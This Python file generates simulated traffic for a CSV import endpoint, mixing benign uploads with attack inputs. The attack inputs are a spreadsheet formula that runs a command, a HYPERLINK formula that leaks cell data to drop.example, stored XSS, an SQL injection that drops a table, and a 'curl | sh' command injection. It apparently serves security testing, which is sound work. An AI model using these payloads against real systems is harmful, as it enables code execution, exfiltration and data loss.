# SPDX-License-Identifier: Apache-2.0
"""What clients post to csv-import, and what attackers do."""

import csv
import gzip
import io

RUNTIME = "python"
HANDLER = "app.handler"


def _file(traffic, rows):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["name", "email", "joined", "balance"] if not traffic.happens(0.01) else ["name", "mail"])
    writer.writerows(rows)
    return out.getvalue()


def _row(traffic):
    if traffic.happens(0.03):
        return traffic.choice([["only a name"], [traffic.person(), "nobody", traffic.date(), "1"], [traffic.person(), traffic.email(), "soon", "1"]])
    return [traffic.person(), traffic.email(), traffic.date(), traffic.amount() * traffic.choice([1, 1, 1, -1])]


def _post(traffic, rows):
    text = _file(traffic, rows)
    kind = traffic.random()
    if kind < 0.6:
        return traffic.http("POST", "/import", body=text, headers={"Content-Type": "text/csv"})
    if kind < 0.9:
        return traffic.http_bytes("POST", "/import", text.encode(), "text/csv")
    if kind < 0.97:
        return traffic.http_bytes("POST", "/import", gzip.compress(text.encode(), mtime=0), "application/gzip")
    return traffic.http_bytes("POST", "/import", text.encode("cp1250", "replace"), "text/csv")


def benign(traffic):
    return _post(traffic, [_row(traffic) for _ in range(1 + traffic.rank(60))])


def _with(name):
    return lambda traffic: _post(traffic, [_row(traffic), [name, "a@example.com", "2026-01-02", "3"]])


INPUTS = {
    "formula": _with("=cmd|' /C calc'!A0"),
    "formula that sends": _with('=HYPERLINK("http://drop.example/?"&A2&B2,"open")'),
    "stored script": _with("<img src=x onerror=alert(document.domain)>"),
    "statement": _with("Anna'); DROP TABLE users; --"),
    "command": _with("$(curl http://drop.example/x | sh)"),
}
